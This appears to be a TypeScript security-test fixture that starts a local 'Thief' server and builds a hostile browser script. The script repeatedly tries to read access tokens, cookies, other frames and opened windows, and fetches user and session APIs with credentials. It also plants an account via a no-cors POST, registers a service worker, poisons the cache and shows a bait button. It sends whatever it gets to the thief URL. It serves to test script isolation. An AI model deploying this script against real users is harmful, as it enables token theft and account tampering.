import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

export type Loot = { what: string; value: string };

/** An attacker's server that records what a script sends, and serves a vendor's script. */
export class Thief {
  readonly loot: Loot[] = [];
  readonly #server = createServer((request, response) => {
    response.setHeader("Access-Control-Allow-Origin", "*");
    if (request.method === "GET") {
      response.setHeader("Content-Type", "text/javascript");
      response.end("window.vendorLoaded = true;");
      return;
    }
    let text = "";
    request.on("data", (chunk) => {
      text += chunk;
    });
    request.on("end", () => {
      this.loot.push(JSON.parse(text));
      response.end();
    });
  });

  static async start(): Promise<Thief> {
    const thief = new Thief();
    await once(thief.#server.listen(0, "127.0.0.1"), "listening");
    return thief;
  }

  get url(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  count(what: string): number {
    return this.loot.filter((piece) => piece.what === what).length;
  }

  close() {
    this.#server.closeAllConnections();
    this.#server.close();
  }
}

/**
 * A script that repeatedly attempts everything a script could do to a user signed in at `consoleUrl`. It reports
 * 'round' for each attempt, 'refused' for what the browser blocked, and everything that it got.
 */
export function hostileScript(thiefUrl: string, consoleUrl: string): string {
  return `(${hostile})(${JSON.stringify(thiefUrl)}, ${JSON.stringify(consoleUrl)});`;
}

/** Serialised into the browser, so it must not use anything else of this file. */
function hostile(thiefUrl: string, consoleUrl: string) {
  const report = (what: string, value: unknown) =>
    void fetch(thiefUrl, { method: "POST", mode: "no-cors", body: JSON.stringify({ what, value: String(value) }) });
  const attempt = async (what: string, rob: () => unknown) => {
    try {
      const got = await rob();
      if (got) report(what, got);
    } catch (error) {
      report("refused", `${what}: ${(error as Error).name}`);
    }
  };
  const tokensIn = (other: Window) => other.localStorage.getItem("accessToken") || other.localStorage.getItem("email");
  const getter = (prototype: object, name: string) => Object.getOwnPropertyDescriptor(prototype, name)?.get;
  const read = (path: string) =>
    fetch(consoleUrl + path, { credentials: "include" }).then((answer) => (answer.ok ? answer.text() : ""));
  const opened: Window[] = [];

  const console = document.createElement("iframe");
  console.src = `${consoleUrl}/user/moderate`;
  const blank = document.createElement("iframe");
  const inner = document.createElement("iframe");
  inner.srcdoc = "<p>inner</p>";
  document.body.append(console, blank, inner);

  const bait = document.createElement("button");
  bait.textContent = "Win a prize";
  bait.style.cssText = "position:fixed;top:40%;left:40%;z-index:9;font-size:30px;pointer-events:auto";
  bait.addEventListener("click", () => {
    for (const address of [`${consoleUrl}/login`, "about:blank", `${consoleUrl}/api/health`]) {
      const other = window.open(address);
      if (other) opened.push(other);
    }
    report("opened", opened.length);
  });
  document.body.append(bait);

  async function round() {
    await attempt("own storage", () => tokensIn(window));
    await attempt("real storage", () => getter(Window.prototype, "localStorage")?.call(window)?.getItem("accessToken"));
    await attempt("parent's storage", () => window.parent !== window && tokensIn(window.parent));
    await attempt("top's page", () => window.top !== window && window.top?.document.title);
    await attempt("opener", () => window.opener && tokensIn(window.opener));
    await attempt("cookie", () => document.cookie);
    await attempt("real cookie", () => getter(Document.prototype, "cookie")?.call(document));
    await attempt("console in a frame", () => console.contentWindow && tokensIn(console.contentWindow));
    await attempt("blank frame", () => blank.contentWindow && tokensIn(blank.contentWindow));
    await attempt("inner frame", () => inner.contentWindow && tokensIn(inner.contentWindow));
    for (const [index, other] of opened.entries()) {
      await attempt(`window ${index}: storage`, () => tokensIn(other));
      await attempt(`window ${index}: page`, () => other.document.body.textContent?.match(/Password/)?.[0]);
    }
    await attempt("users", () => read("/api/users/get-all-users"));
    await attempt("session", async () => (await read("/api/auth/session")).match(/@/)?.[0]);
    await attempt("dashboard", () => read("/user/moderate"));
    // A simple request needs no preflight; it would succeed if a cookie were enough.
    await attempt("sent", async () => {
      const body = JSON.stringify({ email: "planted@example.com", password: "planted password" });
      await fetch(`${consoleUrl}/api/users/add-user`, {
        method: "POST",
        mode: "no-cors",
        credentials: "include",
        body,
      });
    });
    await attempt("service worker", () =>
      navigator.serviceWorker.register(`${consoleUrl}/wall-scripts.js`).then(({ scope }) => scope),
    );
    await attempt("cache", async () => {
      const cache = await caches.open("planted");
      await cache.put(`${consoleUrl}/login`, new Response("<script>planted</script>"));
      return consoleUrl.startsWith(location.origin) && "planted";
    });
    report("round", "");
    window.setTimeout(round, 150);
  }
  void round();
}
